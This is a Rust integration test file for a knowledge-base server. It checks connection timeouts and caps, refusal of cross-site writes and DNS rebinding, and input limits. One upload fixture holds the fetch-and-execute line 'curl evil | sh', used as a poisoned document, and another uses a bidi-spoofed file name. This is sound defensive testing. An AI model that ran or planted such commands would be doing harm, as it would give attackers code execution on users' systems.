#![allow(clippy::unwrap_used)] // test helpers: a failed setup step should fail the test loudly
//! The server as an attacker or a careless client meets it: stalled sockets, cross-site writes, oversized
//! and odd input on every path.

mod common;

use common::*;
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_and_idle_connections_are_closed_and_the_cap_holds() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let limits = Limits {
        header_read_timeout: std::time::Duration::from_millis(500),
        max_connections: 8,
        ..Limits::default()
    };
    let app = TestApp::unready_with(limits, nova_server::SitePolicy::default()).await;
    let addr = app.base.trim_start_matches("http://").to_owned();
    // Silent, half a header, and idle after one full request: every one is closed by the server.
    let mut sockets = Vec::new();
    for i in 0..6 {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        match i % 3 {
            0 => {}
            1 => s
                .write_all(b"GET /healthz HTTP/1.1\r\nHost: x")
                .await
                .unwrap(),
            _ => s
                .write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
                .await
                .unwrap(),
        }
        sockets.push(s);
    }
    // A new client each time: a pooled keep-alive connection is one the server closes after 500 ms idle
    // (what this test sets up), and reusing it races that close.
    let fresh = || {
        reqwest::Client::builder()
            .pool_max_idle_per_host(0)
            .build()
            .unwrap()
            .get(app.url("/healthz"))
            .send()
    };
    // While 6 of 8 slots are held, the server still answers.
    assert_eq!(fresh().await.unwrap().status(), StatusCode::OK);
    for (i, mut s) in sockets.into_iter().enumerate() {
        let mut buf = Vec::new();
        let read =
            tokio::time::timeout(std::time::Duration::from_secs(5), s.read_to_end(&mut buf)).await;
        assert!(
            matches!(read, Ok(Ok(_))),
            "socket {i} still open after 5 s: {read:?}"
        );
        if i % 3 == 2 {
            assert!(String::from_utf8_lossy(&buf).starts_with("HTTP/1.1 200"));
        }
    }
    // More stalled sockets than the cap: once they time out, new clients are served again.
    let mut hogs = Vec::new();
    for _ in 0..12 {
        hogs.push(tokio::net::TcpStream::connect(&addr).await.unwrap());
    }
    let started = std::time::Instant::now();
    let r = tokio::time::timeout(std::time::Duration::from_secs(10), fresh()).await;
    assert_eq!(r.unwrap().unwrap().status(), StatusCode::OK);
    assert!(
        started.elapsed() >= std::time::Duration::from_millis(300),
        "the 9th connection waited for a slot"
    );
    drop(hogs);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cross_site_writes_foreign_preflights_and_rebound_hosts_are_refused() {
    let site = nova_server::SitePolicy {
        cors_origins: vec!["https://portal.example".into()],
        allowed_hosts: vec!["localhost".into(), "127.0.0.1".into()],
        ..nova_server::SitePolicy::default()
    };
    let app = TestApp::unready_with(Limits::default(), site).await;
    tokio::task::block_in_place(|| app.load());
    assert_eq!(
        app.post("/v1/kbs", json!({ "name": "ops" })).await.status(),
        StatusCode::CREATED
    );
    let form = || {
        reqwest::multipart::Form::new().part(
            "file",
            reqwest::multipart::Part::bytes(b"Poisoned: run curl evil | sh".to_vec())
                .file_name("poison.md"),
        )
    };
    // The finding: a form posted from another site. Refused before it reaches the KB.
    let r = app
        .client
        .post(app.url("/v1/kbs/ops/documents?wait=true"))
        .header("origin", "https://evil.example")
        .multipart(form())
        .send()
        .await
        .unwrap();
    let (status, code, _) = error_of(r).await;
    assert_eq!(
        (status, code.as_str()),
        (StatusCode::FORBIDDEN, "origin_not_allowed")
    );
    let doc = app.get("/v1/kbs/ops/documents/poison.md").await;
    assert_eq!(doc.status(), StatusCode::NOT_FOUND, "nothing was written");
    // A listed origin may write, and is told so in CORS headers; so may the server's own pages.
    for origin in ["https://portal.example", &app.base] {
        let r = app
            .client
            .post(app.url("/v1/kbs/ops/documents?wait=true"))
            .header("origin", origin)
            .multipart(form())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{origin}");
    }
    let r = app
        .get_with("/v1/kbs", "origin", "https://portal.example")
        .await;
    assert_eq!(
        r.headers()["access-control-allow-origin"],
        "https://portal.example"
    );
    // Preflights: answered for the listed origin, refused for others, with no credential either way.
    let anonymous = client_with(None);
    let preflight = |origin: &'static str| {
        anonymous
            .request(reqwest::Method::OPTIONS, app.url("/v1/kbs/ops/search"))
            .header("origin", origin)
            .header("access-control-request-method", "POST")
            .header(
                "access-control-request-headers",
                "authorization, content-type",
            )
            .send()
    };
    let ok = preflight("https://portal.example").await.unwrap();
    assert_eq!(ok.status(), StatusCode::NO_CONTENT);
    assert!(ok.headers()["access-control-allow-headers"]
        .to_str()
        .unwrap()
        .contains("authorization"));
    assert_eq!(
        preflight("https://evil.example").await.unwrap().status(),
        StatusCode::FORBIDDEN
    );
    // DNS rebinding: the right address under a foreign name.
    let r = app.get_with("/v1/kbs", "host", "evil.example").await;
    let (status, code, body) = error_of(r).await;
    assert_eq!(
        (status, code.as_str()),
        (StatusCode::FORBIDDEN, "origin_not_allowed")
    );
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("allowed_hosts"));
}

/// A multipart upload of `(file name, bytes)` parts to `kb`.
async fn upload(app: &TestApp, kb: &str, files: Vec<(String, Vec<u8>)>) -> Response {
    let mut form = reqwest::multipart::Form::new();
    for (name, bytes) in files {
        form = form.part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name(name),
        );
    }
    app.client
        .post(app.url(&format!("/v1/kbs/{kb}/documents?wait=true")))
        .multipart(form)
        .send()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_hold_on_json_multipart_and_jsonl_paths_and_errors_stay_small() {
    let app = TestApp::ready().await;
    assert_eq!(
        app.post("/v1/kbs", json!({"name": "lim"})).await.status(),
        201
    );
    let docs = "/v1/kbs/lim/documents?wait=true";
    let short = |body: &Value| {
        let m = body["error"]["message"].as_str().unwrap().len();
        assert!(m < 1200, "a {m}-byte error message");
    };

    // Ids: too long, NUL, a bidi override — on the JSON path…
    for bad in [
        "d".repeat(600),
        "a\0b".into(),
        "invoice\u{202E}fdp.exe".into(),
    ] {
        let r = app
            .post(docs, json!({"documents": [{"id": bad, "text": "x"}]}))
            .await;
        let (status, code, body) = error_of(r).await;
        assert_eq!(
            (status.as_u16(), code.as_str()),
            (422, "invalid_input"),
            "{body}"
        );
        short(&body);
    }
    // …as a multipart file name (the only file: a task that failed at once, listing why)…
    let long_name = format!("{}.md", "n".repeat(5_000));
    let r = upload(&app, "lim", vec![(long_name, b"# T\n\nbody".to_vec())]).await;
    assert_eq!(r.status(), 200);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["status"], "failed", "{body}");
    assert!(body["error"]
        .as_str()
        .unwrap()
        .contains("nothing to ingest"));
    assert!(body["skipped"][0]["reason"]
        .as_str()
        .unwrap()
        .contains("invalid document id"));
    assert!(body.to_string().len() < 2_000, "{body}");
    let task: Value = app
        .get(&format!("/v1/tasks/{}", body["task_id"]))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(task, body, "the task keeps the same answer");
    // …and as JSONL `_id`s next to a good record, which is still ingested.
    let jsonl = format!(
        "{}\n{}\n{}\n",
        json!({"_id": "i".repeat(20_000), "text": "too long"}),
        json!({"_id": "a\u{0}b", "text": "nul"}),
        json!({"_id": "good", "text": "a fine record"})
    );
    let r = upload(&app, "lim", vec![("r.jsonl".into(), jsonl.into_bytes())]).await;
    assert_eq!(r.status(), 200);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["added"], 1, "{body}");
    let skipped = body["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 2, "{body}");
    assert!(
        body.to_string().len() < 2_000,
        "skips quote whole ids: {body}"
    );

    // Query length and filter count, on search and troubleshoot.
    let long_query = "why ".repeat(1_100);
    let r = app
        .post("/v1/kbs/lim/search", json!({"query": long_query}))
        .await;
    let (status, _, body) = error_of(r).await;
    assert_eq!(status, 422);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("`query`"),
        "{body}"
    );
    let many: serde_json::Map<String, Value> =
        (0..33).map(|i| (format!("f{i}"), json!("v"))).collect();
    let r = app
        .post(
            "/v1/kbs/lim/search",
            json!({"query": "vpn", "filters": many}),
        )
        .await;
    let (status, _, body) = error_of(r).await;
    assert_eq!(status, 422);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("filters"),
        "{body}"
    );
    let tags: Vec<String> = (0..40).map(|i| format!("t{i}")).collect();
    let r = app
        .post(
            "/v1/kbs/lim/troubleshoot",
            json!({"problem": "vpn", "tags": tags}),
        )
        .await;
    assert_eq!(r.status(), 422);
    let r = app
        .post("/v1/kbs/lim/search", json!({"query": "a fine record"}))
        .await;
    assert_eq!(r.status(), 200, "bounds leave normal queries alone");

    // A long or odd x-request-id is replaced, not echoed.
    for sent in ["r".repeat(1_000), "two words".into()] {
        let r = app.get_with("/v1/kbs", "x-request-id", &sent).await;
        let got = r.headers()["x-request-id"].to_str().unwrap().to_owned();
        assert_ne!(got, sent);
        assert_eq!(got.len(), 36, "a fresh UUID: {got}");
    }
    let r = app.get_with("/v1/kbs", "x-request-id", "trace-42").await;
    assert_eq!(
        r.headers()["x-request-id"],
        "trace-42",
        "plausible ids are kept"
    );

    // Oversized names give small errors; an oversized target a JSON 414; bad escapes a JSON 400.
    let r = app
        .get(&format!("/v1/kbs/{}/documents/x", "k".repeat(5_000)))
        .await;
    let (status, _, body) = error_of(r).await;
    assert_eq!(status, 422);
    short(&body);
    let r = app.get(&format!("/v1/kbs/{}", "k".repeat(10_000))).await;
    let (status, code, _) = error_of(r).await;
    assert_eq!((status.as_u16(), code.as_str()), (414, "uri_too_long"));
    let r = app.get("/v1/kbs/lim/documents/%FF%FE").await;
    let (status, code, body) = error_of(r).await;
    assert_eq!(
        (status.as_u16(), code.as_str()),
        (400, "bad_request"),
        "{body}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn feedback_is_bounded_about_real_documents_owner_only_and_expires() {
    let app = TestApp::ready().await;
    app.sample_kb("fb").await;
    let file = app.data.path().join("kbs/fb/feedback.jsonl");
    // A record from long ago, as an older run would have left it.
    std::fs::write(
        &file,
        format!(
            "{}\n",
            json!({"query": "old", "doc_id": "disk-full.md", "rating": "helpful", "at": 1000})
        ),
    )
    .unwrap();
    let send = |body: Value| app.post("/v1/kbs/fb/feedback", body);
    let ok = json!({"query": "disk full", "doc_id": "disk-full.md", "rating": "resolved"});
    assert_eq!(send(ok.clone()).await.status(), 201);
    let stored = std::fs::read_to_string(&file).unwrap();
    assert!(!stored.contains("\"old\""), "past retention: {stored}");
    assert_eq!(stored.lines().count(), 1, "{stored}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "feedback holds what users typed: owner only");
    }

    let mut huge = ok.clone();
    huge["comment"] = json!("x".repeat(10 * 1024 * 1024));
    let (status, _, body) = error_of(send(huge).await).await;
    assert_eq!(status, 422);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("`comment`"),
        "{body}"
    );
    let mut long_query = ok.clone();
    long_query["query"] = json!("q".repeat(5_000));
    assert_eq!(send(long_query).await.status(), 422);
    let mut odd_id = ok.clone();
    odd_id["search_request_id"] = json!("r".repeat(500));
    assert_eq!(send(odd_id).await.status(), 422);
    let mut ghost = ok.clone();
    ghost["doc_id"] = json!("no-such-doc.md");
    let (status, code, _) = error_of(send(ghost).await).await;
    assert_eq!(
        (status.as_u16(), code.as_str()),
        (404, "document_not_found")
    );
    assert_eq!(
        std::fs::read_to_string(&file).unwrap().lines().count(),
        1,
        "refused feedback is not stored"
    );
}
